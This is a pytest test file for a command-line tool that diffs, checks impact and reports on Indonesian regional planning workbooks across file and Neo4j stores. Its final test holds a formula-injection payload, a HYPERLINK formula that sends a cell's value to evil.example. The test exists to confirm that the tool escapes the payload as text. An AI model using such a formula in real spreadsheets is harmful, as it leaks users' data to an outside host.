"""diff, impact and redundant as a planner types them: formats, exit codes, both stores."""

from __future__ import annotations

import csv
import io
import json

import pytest
from typer.testing import CliRunner

from cascade.cli import app
from conftest import unique_dataset
from plan_versions import EXPECTED_DIFF, awal_workbook, perubahan_folder

runner = CliRunner()


def run(*args):
    return runner.invoke(app, [str(a) for a in args])


@pytest.fixture(scope="module")
def plans(tmp_path_factory):
    folder = tmp_path_factory.mktemp("plans")
    return awal_workbook(folder / "rpjmd-awal.xlsx"), perubahan_folder(folder / "rpjmd-perubahan")


def test_diff_json_is_exactly_the_documented_shape(plans):
    result = run("diff", *plans, "--format", "json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout) == EXPECTED_DIFF


def test_diff_table_md_and_csv(plans):
    table = run("diff", *plans)
    assert table.exit_code == 0
    assert "2 added, 2 removed, 4 changed" in table.stdout and "Integrasi layanan pemerintahan digital" in table.stdout
    md = run("diff", *plans, "-F", "md").stdout
    assert md.startswith("### Elements") and "| changed | PB-02 | Pengelolaan alat kesehatan | opd | Dinas Kesehatan | RSUD |" in md
    rows = list(csv.DictReader(io.StringIO(run("diff", *plans, "-F", "csv").stdout)))
    assert {(r["section"], r["change"], r["id"] or r["parent"]) for r in rows} >= {
        ("element", "added", "PB-05"), ("link", "removed", "PB-04"), ("finding", "resolved", "PB-02")}
    assert [r["new"] for r in rows if r["field"] == "opd" and r["id"] == "APL-03"] == ["Bappeda"]


def test_diff_of_a_missing_file_or_an_unreachable_dataset(plans, tmp_path):
    missing = run("diff", plans[0], tmp_path / "rpjmd-perubahan.xlsx")
    assert missing.exit_code == 2 and "no such file or folder" in missing.stderr
    unreachable = runner.invoke(app, ["diff", str(plans[0]), "kota@2"], env={"NEO4J_URI": "bolt://127.0.0.1:9"})
    assert unreachable.exit_code == 3 and "cannot reach Neo4j" in unreachable.stderr


def test_impact_and_redundant_formats(plans):
    hit = run("impact", "1.02.02,APL-01", plans[0], "-F", "json")
    assert hit.exit_code == 0, hit.output
    assert json.loads(hit.stdout)["new_orphans"] == ["PB-01", "PB-02"]
    table = run("impact", "1.02.02", plans[0]).stdout
    assert "loses its support through" in table and "PB-01" in table
    assert run("impact", "APL-06", plans[0]).stdout.startswith("nothing breaks")
    unknown = run("impact", "APL-99", plans[0])
    assert unknown.exit_code == 2 and "no element 'APL-99'" in unknown.stderr
    empty = run("impact", " , ", plans[0])
    assert empty.exit_code == 2 and "no element id given" in empty.stderr
    groups = json.loads(run("redundant", plans[0], "-F", "json").stdout)
    assert groups == [{"applications": ["APL-01", "APL-02"], "processes": ["PB-01"]}]


@pytest.mark.neo4j
def test_the_yearly_routine_on_neo4j(neo4j_cli, neo4j_store, plans, tmp_path):
    """Load the awal, then the perubahan; diff the kept awal against it without the old workbook;
    the same answers as from the files; update the register; gate the report."""
    dataset = neo4j_store(dataset=unique_dataset().replace(" ", "-")).dataset   # dropped after the test
    for source in plans:
        loaded = neo4j_cli("load", source, "--dataset", dataset)
        assert loaded.returncode == 0, loaded.stderr
    diffed = neo4j_cli("diff", f"{dataset}@previous", dataset, "-F", "json")
    assert diffed.returncode == 0, diffed.stderr
    assert json.loads(diffed.stdout) == EXPECTED_DIFF
    by_number = neo4j_cli("diff", f"{dataset}@1", f"{dataset}@2", "-F", "json")
    assert json.loads(by_number.stdout) == EXPECTED_DIFF
    mixed = neo4j_cli("diff", plans[0], dataset, "-F", "json")
    assert json.loads(mixed.stdout) == EXPECTED_DIFF
    hit = neo4j_cli("impact", "1.02.02,APL-01", "--dataset", f"{dataset}@1", "-F", "json")
    assert json.loads(hit.stdout)["new_orphans"] == ["PB-01", "PB-02"]
    assert json.loads(neo4j_cli("redundant", "--dataset", f"{dataset}@1", "-F", "json").stdout) == [
        {"applications": ["APL-01", "APL-02"], "processes": ["PB-01"]}]
    register = tmp_path / "pengecualian.yaml"
    assert neo4j_cli("baseline", "init", "--dataset", dataset, "--out", register).returncode == 0
    assert neo4j_cli("report", "--dataset", dataset, "--out", tmp_path / "laporan.md", "--fail-on", "unbacked").returncode == 1
    gated = neo4j_cli("report", "--dataset", dataset, "--out", tmp_path / "laporan.md", "--fail-on", "unbacked",
                      "--baseline", register)
    assert gated.returncode == 0, gated.stderr
    gone = neo4j_cli("diff", f"{dataset}@7", dataset)
    assert gone.returncode == 2 and f"kept: {dataset}@1, {dataset}@2" in gone.stderr


def test_report_against_the_awal_with_accepted_exceptions(plans, tmp_path):
    register = tmp_path / "pengecualian.yaml"
    register.write_text("exceptions:\n  - {kind: unbacked, id: S2, reason: program baru menyusul, owner: Bappeda, "
                        "until: 2027-12-31}\n  - {kind: no-children, id: S3, reason: arsip menunggu Renstra}\n")
    outs = [tmp_path / f"laporan.{ext}" for ext in ("html", "xlsx", "md", "json")]
    result = run("report", plans[1], "--against", plans[0], "--baseline", register, "--as-of", "2026-12-02",
                 "--fail-on", "unbacked", *[a for o in outs for a in ("-o", o)])
    assert result.exit_code == 1, result.output          # S3 is unbacked and not accepted
    data = json.loads(outs[3].read_text())
    assert data["changes"] == EXPECTED_DIFF
    assert [(a["kind"], a["id"]) for a in data["accepted"]] == [("unbacked", "S2"), ("no-children", "S3")]
    assert [g["id"] for g in data["findings"]["unbacked"]] == ["S3"]     # S2 apart, not among the open ones
    html = outs[0].read_text()
    assert 'id="changes"' in html and 'id="accepted"' in html and "program baru menyusul" in html
    import openpyxl

    book = openpyxl.load_workbook(outs[1])
    sheet = book["Perubahan elemen"]
    rows = [[c.value for c in r] for r in sheet.iter_rows(min_row=2)]
    assert ["diubah", "S2", "Integrasi layanan pemerintahan digital", "name", "Integrasi layanan digital",
            "Integrasi layanan pemerintahan digital"] in rows
    assert [c.value for c in book["Pengecualian yang diterima"][2]][:2] == ["Strategi tanpa proses bisnis", "S2"]
    md = outs[2].read_text()
    assert "## Perubahan temuan" in md and "## Pengecualian yang diterima" in md
    passed = run("report", plans[1], "--baseline", register, "--as-of", "2026-12-02", "--fail-on", "orphans",
                 "-o", tmp_path / "lagi.md")
    assert passed.exit_code == 0


def test_a_planners_formula_looking_text_is_written_as_text(tmp_path):
    """Names from a source reach CSV and XLSX output; one starting with "=" must never run there."""
    from workbooks import write_csv_dir

    evil = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    old = write_csv_dir(tmp_path / "lama", {"strategy.csv": "id,name\nS1,Strategi\n",
                                             "process.csv": "id,name,parent\nP1,Proses,S1\n"})
    new = write_csv_dir(tmp_path / "baru", {"strategy.csv": "id,name\nS1,Strategi\n",
                                             "process.csv": f'id,name,parent\nP1,"{evil.replace(chr(34), chr(34) * 2)}",S1\n'
                                                            "P2,-,\n"})
    rows = list(csv.reader(io.StringIO(run("diff", old, new, "-F", "csv").stdout)))
    names = {r[3]: r[4] for r in rows[1:] if r[0] == "element"}
    assert names["P1"] == "'" + evil and names["P2"] == "-"
    out = tmp_path / "laporan.xlsx"
    assert run("report", new, "--against", old, "-o", out).exit_code == 0
    import openpyxl

    cells = [c for ws in openpyxl.load_workbook(out) for row in ws.iter_rows() for c in row if c.value == evil]
    assert cells and all(c.data_type == "s" for c in cells)
